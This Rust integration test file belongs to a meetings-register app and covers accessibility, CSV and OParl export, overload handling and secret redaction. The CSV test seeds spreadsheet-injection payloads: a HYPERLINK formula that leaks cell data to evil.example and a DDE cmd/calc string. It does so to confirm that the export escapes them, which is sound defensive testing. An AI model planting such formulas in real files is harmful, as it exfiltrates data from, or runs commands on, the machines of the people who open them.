            "skipped: needs node, {chromium} and `npm ci` in tests/browser (.ci/run installs them)"
        );
        return None;
    }
    Some((root, chromium))
}

/// A demo store of about `items` agenda items in `data`.
fn demo(data: &std::path::Path, items: u32) {
    demo_with(items, &[std::ffi::OsStr::new("--data"), data.as_os_str()]);
}

/// A demo store of about `items` agenda items in the store `store_args` name.
fn demo_with(items: u32, store_args: &[&std::ffi::OsStr]) {
    let output = witan()
        .args(["demo", "--items", &items.to_string()])
        .args(store_args)
        .output()
        .expect("run demo");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The slug of an integrated care board of the demo store that owns more than one committee.
fn organisation_with_committees(data: &std::path::Path) -> String {
    let runtime = tokio_runtime();
    runtime.block_on(async {
        let store = witan_store::sqlite::SqliteStore::open(&data.join("witan.db"))
            .await
            .expect("open");
        let slug = sqlx::query_scalar(
            "SELECT o.slug FROM organisations o
               JOIN committee_owners co ON co.organisation_id = o.id
              WHERE o.kind = 'integrated_care_board'
              GROUP BY o.id HAVING COUNT(*) > 1 ORDER BY o.slug LIMIT 1",
        )
        .fetch_one(store.pool())
        .await
        .expect("an integrated care board with more than one committee");
        store.pool().close().await;
        slug
    })
}

/// `witan user add`, the password on standard input.
fn add_user(
    data: &std::path::Path,
    email: &str,
    password: &str,
    role: &str,
    name: &str,
    organisation: Option<&str>,
) {
    add_user_with(
        &[std::ffi::OsStr::new("--data"), data.as_os_str()],
        email,
        password,
        role,
        name,
        organisation,
    );
}

/// `witan user add` on the store `store_args` name.
fn add_user_with(
    store_args: &[&std::ffi::OsStr],
    email: &str,
    password: &str,
    role: &str,
    name: &str,
    organisation: Option<&str>,
) {
    let mut add = witan()
        .args(["user", "add", email, "--role", role, "--name", name])
        .args(
            organisation
                .into_iter()
                .flat_map(|slug| ["--organisation", slug]),
        )
        .args(store_args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run user add");
    {
        use std::io::Write;
        let mut stdin = add.stdin.take().expect("stdin");
        writeln!(stdin, "{password}").expect("write the password");
    }
    let added = add.wait_with_output().expect("user add");
    assert!(
        added.status.success(),
        "{}",
        String::from_utf8_lossy(&added.stderr)
    );
}

/// Runs a browser script with node, killed after `limit`; its exit status (None when it was
/// killed) and what it wrote to stdout and stderr.
fn run_node(
    script: &std::path::Path,
    args: &[&str],
    chromium: &str,
    limit: Duration,
) -> (Option<std::process::ExitStatus>, String) {
    let started = Instant::now();
    let mut node = Command::new("node")
        .arg(script)
        .args(args)
        .env("CHROMIUM", chromium)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run node");
    // Read both pipes as the script goes, so a full pipe cannot stall it.
    fn drain(mut pipe: impl std::io::Read + Send + 'static) -> std::thread::JoinHandle<String> {
        std::thread::spawn(move || {
            let mut text = String::new();
            let _ = pipe.read_to_string(&mut text);
            text
        })
    }
    let stdout = drain(node.stdout.take().expect("stdout"));
    let stderr = drain(node.stderr.take().expect("stderr"));
    let status = loop {
        if let Some(status) = node.try_wait().expect("wait for node") {
            break Some(status);
        }
        if started.elapsed() > limit {
            let _ = node.kill();
            let _ = node.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let report = format!(
        "{}{}",
        stdout.join().unwrap_or_default(),
        stderr.join().unwrap_or_default()
    );
    (status, report)
}

/// The clerk's workspace checked with axe-core in headless Chromium
/// (tests/browser/axe-workspace.mjs): zero WCAG 2.2 A/AA violations at desktop and phone width on
/// the sign-in page (also with its errors), the workspace home, setup (as a clerk and as an
/// administrator), the exempt register, accounts, the audit log, the password page (also with its
/// errors), a committee's page and a meeting's page scheduled with items, with a form error, held,
/// with draft minutes, decisions, actions, a document and an escalation, as the escalation's
/// target, and signed off, every `<details>` opened; then a keyboard check of a meeting page (skip
/// link, then the workspace navigation; every form control named). Screenshots land in
/// target/browser-artifacts. Skipped where node, Chromium or the npm packages are missing.
#[test]
fn workspace_pages_pass_axe_in_chromium() {
    let Some((root, chromium)) = browser_tools("axe-core") else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 500);
    let organisation = organisation_with_committees(&data);
    let password = "a long enough passphrase";
    let (clerk, admin) = ("clerk@example.org", "admin@example.org");
    add_user(
        &data,
        clerk,
        password,
        "clerk",
        "Test Clerk",
        Some(&organisation),
    );
    add_user(&data, admin, password, "admin", "Test Admin", None);

    let server = serve(&data);
    let artifacts = root.join("target/browser-artifacts");
    let artifacts = artifacts.to_str().expect("a UTF-8 path");
    let (status, report) = run_node(
        &root.join("tests/browser/axe-workspace.mjs"),
        &[server.base.as_str(), clerk, admin, password, artifacts],
        &chromium,
        Duration::from_secs(180),
    );
    eprintln!("{report}");
    let status = status.unwrap_or_else(|| panic!("axe-workspace did not end in 180 s"));
    assert!(status.success(), "accessibility failures:\n{report}");
    for page in [
        "login-wrong-password",
        "home",
        "setup-admin",
        "exempt",
        "users",
        "audit",
        "password",
        "committee",
        "meeting-scheduled",
        "meeting-form-error",
        "meeting-held",
        "meeting-draft-minutes",
        "meeting-signed-off",
    ] {
        assert!(
            report.contains(&format!("\n{page} /")),
            "{page} was not checked:\n{report}"
        );
    }
    assert!(report.contains("keyboard: Tab reaches Skip to main content"));
    assert!(report.contains("no violations"), "{report}");
}

#[test]
fn the_public_registers_export_as_csv_without_exempt_records() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 1500);
    let out = dir.path().join("registers");
    let output = witan()
        .args(["export", "csv", "--data"])
        .arg(&data)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run export");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let said = String::from_utf8_lossy(&output.stdout).to_string();
    let read = |name: &str| {
        let mut reader = csv::Reader::from_path(out.join(name)).expect("csv");
        let header: Vec<String> = reader
            .headers()
            .expect("header")
            .iter()
            .map(str::to_owned)
            .collect();
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.expect("row").iter().map(str::to_owned).collect())
            .collect();
        (header, rows)
    };
    let (header, decisions) = read("decisions.csv");
    assert_eq!(header[..3], ["id", "decided_on", "title"]);
    let (header, actions) = read("actions.csv");
    assert_eq!(header[..3], ["id", "raised_on", "committee"]);
    let (header, plan) = read("forward-plan.csv");
    assert_eq!(header[..3], ["id", "title", "decision_maker"]);
    assert!(!decisions.is_empty() && !actions.is_empty() && !plan.is_empty());
    assert!(
        said.contains(&format!(
            "exported {} decisions, {} actions and {} forward plan entries",
            decisions.len(),
            actions.len(),
            plan.len()
        )),
        "{said}"
    );
    assert!(!out.join("decisions.csv.partial").exists());

    // The same as the public registers: no decision or action of an exempt item.
    let runtime = tokio_runtime();
    let (exempt_decisions, exempt_actions, public_decisions): (Vec<i64>, Vec<i64>, i64) = runtime
        .block_on(async {
            let pool =
                sqlx::SqlitePool::connect(&format!("sqlite://{}", data.join("witan.db").display()))
                    .await
                    .expect("open");
            let decisions: Vec<i64> = sqlx::query_scalar(
                "SELECT d.id FROM decisions d JOIN agenda_items i ON i.id = d.item_id
                 WHERE i.exempt_ground IS NOT NULL",
            )
            .fetch_all(&pool)
            .await
            .expect("decisions");
            let actions: Vec<i64> = sqlx::query_scalar(
                "SELECT a.id FROM actions a JOIN agenda_items i ON i.id = a.item_id
                 WHERE i.exempt_ground IS NOT NULL",
            )
            .fetch_all(&pool)
            .await
            .expect("actions");
            let public: i64 = sqlx::query_scalar(
                "SELECT COUNT(*) FROM decisions d LEFT JOIN agenda_items i ON i.id = d.item_id
                 LEFT JOIN meetings m ON m.id = i.meeting_id
                 WHERE i.id IS NULL OR (i.exempt_ground IS NULL
                   AND m.status NOT IN ('scheduled', 'cancelled'))",
            )
            .fetch_one(&pool)
            .await
            .expect("count");
            (decisions, actions, public)
        });
    assert!(
        !exempt_decisions.is_empty(),
        "the demo has exempt decisions to withhold"
    );
    let ids = |rows: &[Vec<String>]| -> Vec<i64> {
        rows.iter().map(|r| r[0].parse().expect("id")).collect()
    };
    let exported = ids(&decisions);
    assert!(exempt_decisions.iter().all(|id| !exported.contains(id)));
    let exported = ids(&actions);
    assert!(exempt_actions.iter().all(|id| !exported.contains(id)));
    assert_eq!(decisions.len() as i64, public_decisions);
}

fn tokio_runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
}

/// Every object of an OParl dump folder, embedded ones included, by id.
fn dump_objects(dir: &std::path::Path) -> std::collections::BTreeMap<String, serde_json::Value> {
    fn collect(
        value: &serde_json::Value,
        into: &mut std::collections::BTreeMap<String, serde_json::Value>,
    ) {
        match value {
            serde_json::Value::Object(map) => {
                if let (Some(id), Some(_)) =
                    (map.get("id").and_then(|i| i.as_str()), map.get("type"))
                {
                    into.insert(id.to_owned(), value.clone());
                }
                map.values().for_each(|v| collect(v, into));
            }
            serde_json::Value::Array(items) => items.iter().for_each(|v| collect(v, into)),
            _ => {}
        }
    }
    let mut objects = std::collections::BTreeMap::new();
    let mut folders = vec![dir.to_path_buf()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("dump folder") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let text = std::fs::read_to_string(&path).expect("dump file");
                let value: serde_json::Value = serde_json::from_str(&text).expect("dump JSON");
                collect(&value, &mut objects);
            }
        }
    }
    objects
}

/// The records of a dump in words that do not depend on ids: each reference replaced by the
/// name of what it names, so that two stores holding the same records give the same lines.
fn dump_records(dir: &std::path::Path) -> Vec<String> {
    use serde_json::{Value, json};
    let objects = dump_objects(dir);
    let name = |url: &Value| -> Value {
        url.as_str()
            .and_then(|u| objects.get(u))
            .map_or(Value::Null, |o| o["name"].clone())
    };
    let names = |urls: &Value| -> Value {
        let mut all: Vec<String> = urls
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|u| name(u).as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default();
        all.sort();
        json!(all)
    };
    // A File's digest is not compared: witan takes a digest only from bytes it read, and a dump
    // holds links to the files, not the files (the test below checks that none is taken).
    let file = |f: &Value| json!([f["name"], f["mimeType"], f["size"], f["text"]]);
    let files = |fs: &Value| {
        let mut all: Vec<String> = fs
            .as_array()
            .map(|a| a.iter().map(|f| file(f).to_string()).collect())
            .unwrap_or_default();
        all.sort();
        json!(all)
    };
    let mut lines = Vec::new();
    for object in objects.values() {
        let kind = object["type"]
            .as_str()
            .unwrap_or_default()
            .rsplit('/')
            .next()
            .unwrap_or_default();
        let line = match kind {
            "Body" => json!([kind, object["name"], object["witan:organisationKind"]]),
            "Organization" => json!([
                kind,
                object["name"],
                name(&object["body"]),
                names(&object["witan:jointWith"]),
                object["witan:purpose"],
                name(&object["subOrganizationOf"]),
            ]),
            "Person" => json!([kind, object["name"], object["witan:jobTitle"]]),
            "Membership" => json!([
                kind,
                name(&object["person"]),
                name(&object["organization"]),
                object["witan:role"],
                object["startDate"],
                object["endDate"],
            ]),
            "Meeting" => json!([
                kind,
                names(&object["organization"]),
                object["start"],
                object["end"],
                object["location"]["description"],
                object["witan:status"],
            ]),
            "AgendaItem" => {
                let paper = object["consultation"]
                    .as_str()
                    .and_then(|c| objects.get(c))
                    .map_or(Value::Null, |c| name(&c["paper"]));
                let meeting = object["meeting"].as_str().and_then(|m| objects.get(m));
                json!([
                    kind,
                    meeting.map(|m| names(&m["organization"])),
                    meeting.map(|m| m["start"].clone()),
                    object["number"],
                    object["order"],
                    object["name"],
                    object["public"],
                    paper,
                    object["witan:minutes"],
                    files(&object["auxiliaryFile"]),
                ])
            }
            "Paper" => json!([
                kind,
                object["name"],
                object["reference"],
                object["witan:summary"],
                files(&object["auxiliaryFile"]),
                object["consultation"].as_array().map_or(0, Vec::len),
            ]),
            // Files are compared with what embeds them; the rest have no record of their own.
            _ => continue,
        };
        lines.push(line.to_string());
    }
    lines.sort();
    lines
}

#[test]
fn an_oparl_dump_imports_into_an_empty_store_as_the_same_records() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 1500);
    let export = |data: &std::path::Path, out: &std::path::Path| {
        let output = witan()
            .args([
                "export",
                "oparl",
                "--public-url",
                "https://meetings.example.gov.uk",
                "--data",
            ])
            .arg(data)
            .arg("--out")
            .arg(out)
            .output()
            .expect("run export");
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).to_string()
    };
    let first = dir.path().join("first");
    let said = export(&data, &first);
    assert!(
        said.contains(" meeting") && said.contains(" paper"),
        "{said}"
    );
    assert!(
        !first.join("oparl.partial").exists(),
        "no partial dump is left"
    );
    let system: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(first.join("oparl/system.json")).expect("system.json"),
    )
    .expect("JSON");
    assert_eq!(
        system["id"],
        "https://meetings.example.gov.uk/oparl/v1.1/system"
    );

    let copy = dir.path().join("copy");
    let output = witan()
        .args(["import", "--format", "oparl", "--data"])
        .arg(&copy)
        .arg(first.join("oparl"))
        .output()
        .expect("run import");
    assert!(
        output.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let second = dir.path().join("second");
    export(&copy, &second);

    // The digests the first dump states name files the copy never read, so it takes none.
    let digests = |dir: &std::path::Path| {
        dump_objects(dir)
            .values()
            .filter(|o| o.get("witan:sha256").is_some())
            .count()
    };
    assert!(
        digests(&first.join("oparl")) > 0,
        "the demo's files have digests"
    );
    assert_eq!(
        digests(&second.join("oparl")),
        0,
        "a stated digest was taken"
    );
    let before = dump_records(&first.join("oparl"));
    let after = dump_records(&second.join("oparl"));
    assert!(before.len() > 1000, "{} records", before.len());
    let missing: Vec<&String> = before
        .iter()
        .filter(|l| !after.contains(l))
        .take(5)
        .collect();
    let extra: Vec<&String> = after
        .iter()
        .filter(|l| !before.contains(l))
        .take(5)
        .collect();
    assert!(
        missing.is_empty() && extra.is_empty() && before.len() == after.len(),
        "{} records before, {} after; missing after the round trip: {missing:#?}; new: {extra:#?}",
        before.len(),
        after.len()
    );
}

#[test]
fn the_published_openapi_document_is_valid_openapi_3_1() {
    let Some(root) = node_tools("@apidevtools/swagger-parser") else {
        return;
    };
    let chromium = "";
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 300);
    let server = serve(&data);
    let (status, document) = fetch(&agent(), &format!("{}/api/openapi.json", server.base));
    assert_eq!(status, 200);
    let file = dir.path().join("openapi.json");
    std::fs::write(&file, &document).expect("write the document");
    let path = file.to_str().expect("utf-8 path");
    let (status, report) = run_node(
        &root.join("tests/browser/openapi.mjs"),
        &[path],
        chromium,
        Duration::from_secs(60),
    );
    assert!(
        status.is_some_and(|s| s.success()),
        "the OpenAPI document is not valid:\n{report}"
    );
    assert!(report.contains("valid OpenAPI 3.1.0"), "{report}");
    // The control: a document with a dangling reference is refused.
    let broken = document.replacen(
        "#/components/schemas/Meeting\"",
        "#/components/schemas/Nothing\"",
        1,
    );
    assert_ne!(broken, document);
    std::fs::write(&file, &broken).expect("write the broken document");
    let (status, report) = run_node(
        &root.join("tests/browser/openapi.mjs"),
        &[path],
        chromium,
        Duration::from_secs(60),
    );
    assert!(!status.is_some_and(|s| s.success()), "{report}");
}

/// Opens a connection to `server` and sends `bytes`, leaving it open.
fn send_part(server: &Server, bytes: &[u8]) -> std::net::TcpStream {
    use std::io::Write;
    let address = server.base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(address).expect("connect");
    stream.write_all(bytes).expect("send");
    stream
}

/// Reads what the server sends on `stream` until it closes the connection, waiting at most
/// `limit`; None when it was still open then.
fn read_until_closed(stream: &mut std::net::TcpStream, limit: Duration) -> Option<Vec<u8>> {
    use std::io::Read;
    let deadline = Instant::now() + limit;
    let mut received = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        let left = deadline.checked_duration_since(Instant::now())?;
        stream
            .set_read_timeout(Some(left.max(Duration::from_millis(1))))
            .expect("read timeout");
        match stream.read(&mut buffer) {
            Ok(0) => return Some(received),
            Ok(n) => received.extend_from_slice(&buffer[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return Some(received),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return None;
            }
            Err(e) => panic!("reading: {e}"),
        }
    }
}

/// The peak and current resident memory of a process, in KiB (VmHWM and VmRSS).
fn resident_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("proc status");
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap_or_else(|| panic!("{name} in {status}"))
    };
    (field("VmHWM:"), field("VmRSS:"))
}

#[test]
fn half_sent_headers_are_dropped() {
    let dir = tempfile::tempdir().expect("temp dir");
    demo(dir.path(), 100);
    let server = serve_with(&[
        "--data".as_ref(),
        dir.path().as_os_str(),
        "--header-read-timeout-secs".as_ref(),
        "2".as_ref(),
    ]);
    let opened = Instant::now();
    let mut slow: Vec<std::net::TcpStream> = (0..50)
        .map(|_| {
            send_part(
                &server,
                b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: sl",
            )
        })
        .collect();
    // While they hang, an ordinary reader is served.
    let agent = agent();
    let (status, _) = fetch(&agent, &format!("{}/committees", server.base));
    assert_eq!(status, 200);
    for (n, stream) in slow.iter_mut().enumerate() {
        let received = read_until_closed(stream, Duration::from_secs(8))
            .unwrap_or_else(|| panic!("connection {n} still open after {:?}", opened.elapsed()));
        assert!(received.is_empty(), "connection {n} was answered");
    }
    let dropped = opened.elapsed();
    assert!(
        dropped >= Duration::from_millis(1500) && dropped < Duration::from_secs(6),
        "dropped after {dropped:?}"
    );
    // A connection that sends nothing at all is dropped too, and the server answers after.
    let mut silent = send_part(&server, b"");
    assert!(read_until_closed(&mut silent, Duration::from_secs(8)).is_some());
    let (status, _) = fetch(&agent, &format!("{}/", server.base));
    assert_eq!(status, 200);
}

#[test]
fn overload_is_answered_with_quick_503s_and_memory_stays_bounded() {
    let dir = tempfile::tempdir().expect("temp dir");
    demo(dir.path(), 300);
    let server = serve_with(&[
        "--data".as_ref(),
        dir.path().as_os_str(),
        "--max-concurrent-requests".as_ref(),
        "4".as_ref(),
        "--request-timeout-secs".as_ref(),
        "4".as_ref(),
    ]);
    let agent = agent();
    let (status, _) = fetch(&agent, &format!("{}/", server.base));
    assert_eq!(status, 200);
    // Four sign-ins whose forms never finish arriving hold every place.
    let started = Instant::now();
    let mut held: Vec<std::net::TcpStream> = (0..4)
        .map(|_| {
            send_part(
                &server,
                b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\n\
                  Content-Type: application/x-www-form-urlencoded\r\n\
                  Content-Length: 1000\r\n\r\nemail=a%40b.c&pass",
            )
        })
        .collect();
    let busy = |path: &str| {
        let asked = Instant::now();
        let response = agent
            .get(&format!("{}{path}", server.base))
            .call()
            .unwrap_or_else(|e| panic!("GET {path}: {e}"));
        (
            response.status().as_u16(),
            response
                .headers()
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned),
            asked.elapsed(),
        )
    };
    // Nothing else is asked until they are in: a reader let in first would leave one of them
    // turned away.
    std::thread::sleep(Duration::from_millis(500));
    let (_, before) = resident_kib(server.child.id());
    let mut waited = 0;
    while busy("/committees").0 != 503 {
        waited += 1;
        assert!(waited < 100, "the held requests never filled the places");
        std::thread::sleep(Duration::from_millis(20));
    }
    // Twice as many readers as places, each asking again and again: every one is told at once.
    let answers: Vec<(u16, Option<String>, Duration)> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..8)
            .map(|n| {
                let busy = &busy;
                scope.spawn(move || {
                    let paths = [
                        "/",
                        "/search?q=budget",
                        "/api/v1/meetings",
                        "/oparl/v1.1/system",
                    ];
                    (0..25)
                        .map(|i| busy(paths[(n + i) % paths.len()]))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        threads
            .into_iter()
            .flat_map(|t| t.join().expect("thread"))
            .collect()
    });
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "the flood outlasted the held requests"
    );
    assert_eq!(answers.len(), 200);
    for (status, retry_after, took) in &answers {
        assert_eq!(*status, 503);
        assert_eq!(retry_after.as_deref(), Some("2"));
        assert!(*took < Duration::from_secs(1), "a 503 took {took:?}");
    }
    let slowest = answers.iter().map(|a| a.2).max().unwrap_or_default();
    // The held requests end at the request timeout with a 503 of their own.
    for stream in &mut held {
        let received = read_until_closed(stream, Duration::from_secs(10)).unwrap_or_default();
        let text = String::from_utf8_lossy(&received);
        assert!(text.starts_with("HTTP/1.1 503"), "{text}");
    }
    let timed_out = started.elapsed();
    assert!(timed_out >= Duration::from_secs(4), "{timed_out:?}");
    // Then everything answers again, under a load larger than the places, without errors.
    let loaded: Vec<u16> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..8)
            .map(|_| {
                let busy = &busy;
                scope.spawn(move || (0..40).map(|_| busy("/committees").0).collect::<Vec<_>>())
            })
            .collect();
        threads
            .into_iter()
            .flat_map(|t| t.join().expect("thread"))
            .collect()
    });
    assert!(loaded.iter().all(|s| *s == 200 || *s == 503), "{loaded:?}");
    assert!(loaded.contains(&200));
    let (status, _) = fetch(&agent, &format!("{}/committees", server.base));
    assert_eq!(status, 200);
    let (peak, after) = resident_kib(server.child.id());
    eprintln!(
        "slowest 503 {slowest:?}; {} of 320 under load answered 200; VmRSS {before} KiB before \
         the flood, {after} KiB after; VmHWM {peak} KiB",
        loaded.iter().filter(|s| **s == 200).count()
    );
    // Turning readers away costs no memory to speak of: nothing queues.
    assert!(
        after < before + 64 * 1024,
        "resident memory grew from {before} KiB to {after} KiB"
    );
    assert!(peak < 400 * 1024, "peak resident memory {peak} KiB");
}

#[test]
fn csv_export_writes_formulas_in_titles_as_text_not_formulas() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 300);
    // Titles as an import from a hostile source could leave them.
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the papers\")";
    tokio_runtime().block_on(async {
        let pool =
            sqlx::SqlitePool::connect(&format!("sqlite://{}", data.join("witan.db").display()))
                .await
                .expect("open");
        for (sql, value) in [
            ("UPDATE decisions SET title = ?", formula),
            (
                "UPDATE actions SET description = ?",
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("UPDATE forward_plan SET title = ?", "+1+1"),
        ] {
            sqlx::query(sql)
                .bind(value)
                .execute(&pool)
                .await
                .expect(sql);
        }
    });
    let out = dir.path().join("registers");
    let output = witan()
        .args(["export", "csv", "--data"])
        .arg(&data)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run export");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let column = |file: &str, name: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
        let at = reader
            .headers()
            .expect("header")
            .iter()
            .position(|h| h == name)
            .expect("column");
        reader
            .records()
            .map(|r| r.expect("row")[at].to_owned())
            .collect()
    };
    for (file, name, expected) in [
        ("decisions.csv", "title", format!("'{formula}")),
        (
            "actions.csv",
            "description",
            "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        ),
        ("forward-plan.csv", "title", "'+1+1".to_owned()),
    ] {
        let cells = column(file, name);
        assert!(!cells.is_empty(), "{file} has rows");
        assert!(
            cells.iter().all(|c| *c == expected),
            "{file} {name}: {:?}",
            cells.iter().find(|c| **c != expected)
        );
    }
    // Every cell of every file: none starts as a formula would.
    for file in ["decisions.csv", "actions.csv", "forward-plan.csv"] {
        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
        for row in reader.records() {
            for cell in row.expect("row").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                    "{file}: {cell:?}"
                );
            }
        }
    }
}

#[test]
fn a_password_in_the_database_urls_query_is_never_printed() {
    let dir = tempfile::tempdir().expect("temp dir");
    // A PostgreSQL server nobody listens for, a parameter the driver does not read, and a
    // scheme witan does not know: each fails, and no message shows a secret.
    for url in [
        "postgres://witan@127.0.0.1:9/witan?password=zqhunter2",
        "postgres://witan:zqhunter2@127.0.0.1:9/witan?sslpassword=zqopensesame",
        "mysql://witan:zqhunter2@db.example/witan?password=zqhunter2",
    ] {
        let output = witan()
            .args(["migrate", "--data"])
            .arg(dir.path())
            .env("WITAN_DATABASE_URL", url)
            .env("WITAN_LOG", "trace")
            .output()
            .expect("run migrate");
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(!output.status.success(), "{url}: {said}");
        assert!(said.contains("error: "), "{url}: {said}");
        assert!(
            !said.contains("zqhunter2") && !said.contains("zqopensesame"),
            "{url}: {said}"
        );
    }
    let output = witan()
        .args(["migrate", "--data"])
        .arg(dir.path())
        .env(
            "WITAN_DATABASE_URL",
            "postgres://witan@127.0.0.1:9/witan?sslpassword=zqopensesame",
        )
        .output()
        .expect("run migrate");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("\"sslpassword\""), "{said}");
}
